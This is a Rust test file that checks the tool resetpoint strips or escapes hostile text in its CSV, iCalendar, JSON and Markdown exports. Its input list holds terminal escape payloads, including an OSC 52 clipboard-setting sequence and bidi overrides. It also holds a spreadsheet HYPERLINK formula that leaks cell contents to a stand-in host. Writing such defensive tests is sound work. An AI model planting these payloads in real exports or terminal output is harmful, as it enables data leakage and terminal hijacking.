//! No output of resetpoint can carry a terminal escape or a bidi override:
//! each format is fed hostile text (OSC, CSI, DCS, C1, DEL, bidi overrides,
//! zero-width characters, formula starts) and read back with a real parser,
//! which must find no raw control character and the text still there in a
//! visible form.

use icalendar::{Calendar, CalendarComponent, Component};
use jiff::Timestamp;
use jiff::civil::date;
use proptest::prelude::*;
use pulldown_cmark::{Event, Parser};
use resetpoint::commands::check::{human_report, json_report};
use resetpoint::export::actions::{csv, ics, markdown};
use resetpoint::export::history;
use resetpoint::left_open::actions::ActionRow;
use resetpoint::left_open::history::MeetingHistory;
use resetpoint::meeting::capture::ActionStatus;
use resetpoint::plan::load_bytes;
use resetpoint::plan::model::Plan;
use resetpoint::text::{is_unsafe, visible, visible_lines};

/// Pieces that have done harm somewhere, and ordinary text around them.
const PIECES: &[&str] = &[
    "\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}", // OSC 52: sets the clipboard
    "\u{1b}]8;;http://x/\u{1b}\\link\u{1b}]8;;\u{1b}\\", // OSC 8 hyperlink
    "\u{1b}[2J\u{1b}[H",                 // CSI: clear the screen
    "\u{1b}[31m",                        // CSI: red
    "\u{1b}P1$r\u{1b}\\",                // DCS
    "\u{9b}31m",                         // C1 CSI, one character
    "\u{9d}0;title\u{9c}",               // C1 OSC ... ST
    "\u{90}q\u{9c}",                     // C1 DCS
    "\u{85}",                            // C1 next line
    "\u{7f}",                            // DEL
    "\u{8}\u{8}",                        // backspaces
    "\u{202e}",                          // right-to-left override
    "\u{2066}",                          // left-to-right isolate
    "\u{61c}",                           // Arabic letter mark
    "\u{200e}",                          // left-to-right mark
    "\u{200b}",                          // zero-width space
    "\u{200d}",                          // zero-width joiner
    "\u{feff}",                          // zero-width no-break space
    "\r\n",
    "\r",
    "\n",
    "\t",
    "=HYPERLINK(\"http://x/?leak=\"&A1,\"Click\")",
    "+1",
    "-2",
    "@SUM(A1)",
    "Søren Kjærgaard",
    "李梅",
    "plan, v2; \"final\" \\ ok",
    " ",
    "Send",
];

fn hostile() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(PIECES), 1..8).prop_map(|p| p.concat())
}

/// Hostile text with a word in it, as a plan's required names need.
fn named() -> impl Strategy<Value = String> {
    hostile().prop_map(|s| format!("Go{s}live"))
}

/// No character a terminal would act on, other than line breaks.
fn assert_no_raw_control(text: &str) {
    for c in text.chars() {
        assert!(
            c == '\n' || c == '\r' || !is_unsafe(c),
            "raw {c:?} in output:\n{text:?}"
        );
    }
    assert!(
        !text.replace("\r\n", "").contains('\r'),
        "a lone carriage return: {text:?}"
    );
}

/// The hostile text as a TOML basic string, every unusual character escaped.
fn toml_string(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        if (c.is_ascii_graphic() || c == ' ') && c != '"' && c != '\\' {
            out.push(c);
        } else {
            out.push_str(&format!("\\U{:08X}", u32::from(c)));
        }
    }
    out.push('"');
    out
}

fn plan_with(name: &str) -> Plan {
    let text = format!(
        "[project]\nname = {n}\ncustomer = {n}\n\n[status]\nheadline = {n}\n\n\
         [[milestones]]\nname = {n}\nbaseline = 2026-12-07\nforecast = 2026-12-21\n",
        n = toml_string(name)
    );
    let checked = load_bytes("hostile.toml", text.as_bytes());
    let report = checked.render();
    checked.plan.unwrap_or_else(|| panic!("{report}"))
}

fn row(title: &str) -> ActionRow {
    ActionRow {
        id: "A-1".into(),
        title: title.to_owned(),
        owner: Some(title.to_owned()),
        due: Some(date(2026, 12, 1)),
        status: ActionStatus::Open,
        meeting: "2026-11-24-1400-status".into(),
        created: "2026-11-24T14:05:00Z".parse::<Timestamp>().unwrap(),
        owner_id: None,
        moved_from: None,
        side: None,
    }
}

/// What a spreadsheet should show for a cell holding `text`.
fn shown_in_a_spreadsheet(text: &str) -> String {
    let shown = visible_lines(text);
    if shown.starts_with(['=', '+', '-', '@', '\n']) {
        format!("'{shown}")
    } else {
        shown
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn csv_cells_are_visible_and_never_formulas(title in hostile()) {
        let text = csv(&[row(&title)], &jiff::tz::TimeZone::UTC);
        assert_no_raw_control(text.trim_start_matches('\u{feff}'));
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let header = reader.headers().unwrap().clone();
        prop_assert_eq!(&header[0], "id", "the byte-order mark is not part of the header");
        let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        prop_assert_eq!(records.len(), 1);
        prop_assert_eq!(&records[0][1], shown_in_a_spreadsheet(&title));
        prop_assert_eq!(&records[0][2], shown_in_a_spreadsheet(&title));
        for cell in records[0].iter() {
            prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
    }

    #[test]
    fn icalendar_text_is_visible(title in hostile()) {
        let text = ics(&[row(&title)], &plan_with("Portal"));
        assert_no_raw_control(&text);
        for c in ['\u{202e}', '\u{2066}', '\u{200e}'] {
            prop_assert!(!text.contains(c));
        }
        let calendar: Calendar = text.parse().unwrap();
        let todo = calendar
            .components
            .iter()
            .find_map(|c| match c {
                CalendarComponent::Todo(todo) => Some(todo),
                _ => None,
            })
            .unwrap();
        let summary = todo.get_summary().unwrap();
        prop_assert_eq!(summary, format!("A-1 {}", visible_lines(&title)));
    }

    #[test]
    fn json_escapes_and_keeps_the_exact_text(name in named()) {
        let plan = plan_with(&name);
        let checked = load_bytes(
            "hostile.toml",
            format!(
                "[project]\nname = \"P\"\ncustomer = \"C\"\n\n[[milestones]]\nname = {}\nbaseline = 2026-12-07\n",
                toml_string(&name)
            )
            .as_bytes(),
        );
        let report = json_report(&checked, true, resetpoint::export::minutes::Audience::Internal);
        assert_no_raw_control(&report);
        prop_assert!(!report.contains(['\n', '\r']));
        let back: serde_json::Value = serde_json::from_str(&report).unwrap();
        prop_assert_eq!(back["derived"]["milestones"][0]["name"].as_str(), Some(name.as_str()));

        let rows = [MeetingHistory {
            record: name.clone(),
            date: date(2026, 11, 24),
            time: "14:00".into(),
            agenda: name.clone(),
            pulse: Some(3.5),
            recommend: None,
            actions_opened: 1,
            closed_on_time: 0,
            closed_late: 0,
            promises_kept: 0,
            promises_due: 0,
            promises_broken: 0,
        }];
        let text = history::json(&rows, &plan);
        assert_no_raw_control(&text);
        prop_assert!(!text.contains(['\n', '\r']));
        let back: serde_json::Value = serde_json::from_str(&text).unwrap();
        prop_assert_eq!(back["project"].as_str(), Some(name.as_str()));
        prop_assert_eq!(back["meetings"][0]["agenda"].as_str(), Some(name.as_str()));
    }

    #[test]
    fn human_text_is_visible(name in named()) {
        let plan = plan_with(&name);
        let checked = load_bytes(
            "hostile.toml",
            format!(
                "[project]\nname = {n}\ncustomer = \"C\"\n\n[[milestones]]\nname = {n}\nbaseline = 2026-12-07\n",
                n = toml_string(&name)
            )
            .as_bytes(),
        );
        let report = human_report(&checked, false, resetpoint::export::minutes::Audience::Internal);
        common_safe(&report);
        prop_assert!(report.contains(&visible(&name)), "{report}");

        let rows = [MeetingHistory {
            record: "r".into(),
            date: date(2026, 11, 24),
            time: "14:00".into(),
            agenda: name.clone(),
            pulse: None,
            recommend: None,
            actions_opened: 0,
            closed_on_time: 0,
            closed_late: 0,
            promises_kept: 0,
            promises_due: 0,
            promises_broken: 0,
        }];
        let text = history::human(&rows, &plan);
        common_safe(&text);
        prop_assert!(text.contains(&visible(&name)), "{text}");

        // The action list in Markdown, read back with a CommonMark parser.
        let text = markdown(&[row(&name)], &plan, false);
        common_safe(&text);
        let mut rendered = String::new();
        for event in Parser::new(&text) {
            match event {
                Event::Text(t) | Event::Code(t) => rendered.push_str(&t),
                Event::SoftBreak | Event::HardBreak => rendered.push('\n'),
                _ => {}
            }
        }
        for line in visible_lines(&name).lines() {
            prop_assert!(rendered.contains(line.trim()), "{line:?} not in {rendered:?}");
        }
    }
}

/// Human text may break lines with `\n`, and nothing else.
fn common_safe(text: &str) {
    for c in text.chars() {
        assert!(c == '\n' || !is_unsafe(c), "raw {c:?} in output:\n{text:?}");
    }
}

#[test]
fn a_typed_formula_is_text_in_the_spreadsheet() {
    let formula = "=HYPERLINK(\"http://x/?leak=\"&A1,\"Click\")";
    let text = csv(&[row(formula)], &jiff::tz::TimeZone::UTC);
    assert!(
        text.starts_with('\u{feff}'),
        "Excel needs the byte-order mark"
    );
    let mut reader = ::csv::Reader::from_reader(text.as_bytes());
    let record = reader.records().next().unwrap().unwrap();
    assert_eq!(&record[1], format!("'{formula}"));
    for start in ["+1", "-1", "@SUM(A1)"] {
        let text = csv(&[row(start)], &jiff::tz::TimeZone::UTC);
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[1], format!("'{start}"));
    }
    let text = csv(&[row("\tTab"), row("\rReturn")], &jiff::tz::TimeZone::UTC);
    let mut reader = ::csv::Reader::from_reader(text.as_bytes());
    let titles: Vec<String> = reader.records().map(|r| r.unwrap()[1].to_owned()).collect();
    assert_eq!(titles, ["\\u{9}Tab", "'\nReturn"]);
}

#[test]
fn names_reach_the_spreadsheet_as_utf8() {
    let text = csv(
        &[row("Søren Kjærgaard"), row("李梅")],
        &jiff::tz::TimeZone::UTC,
    );
    let bytes = text.as_bytes();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    let mut reader = ::csv::Reader::from_reader(bytes);
    let titles: Vec<String> = reader.records().map(|r| r.unwrap()[1].to_owned()).collect();
    assert_eq!(titles, ["Søren Kjærgaard", "李梅"]);
}

#[test]
fn a_control_character_cannot_be_a_key() {
    // U+009B is a one-character CSI: as a key label it would reach the
    // footer and the help screen (a fuzzing find).
    for key in ["\u{9b}", "Ctrl-\u{1b}", "\u{202e}", "Alt-\u{7f}"] {
        assert_eq!(resetpoint::tui::keymap::parse_key(key), None, "{key:?}");
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    std::fs::write(&path, "[keys]\nhelp = [\"\\u009b\"]\n").unwrap();
    let bad = resetpoint::tui::config::load(Some(&path), true, false).unwrap_err();
    let text = bad.render();
    common_safe(&text);
    assert!(
        text.contains("`\\u{9b}` is not a key resetpoint knows"),
        "{text}"
    );
}
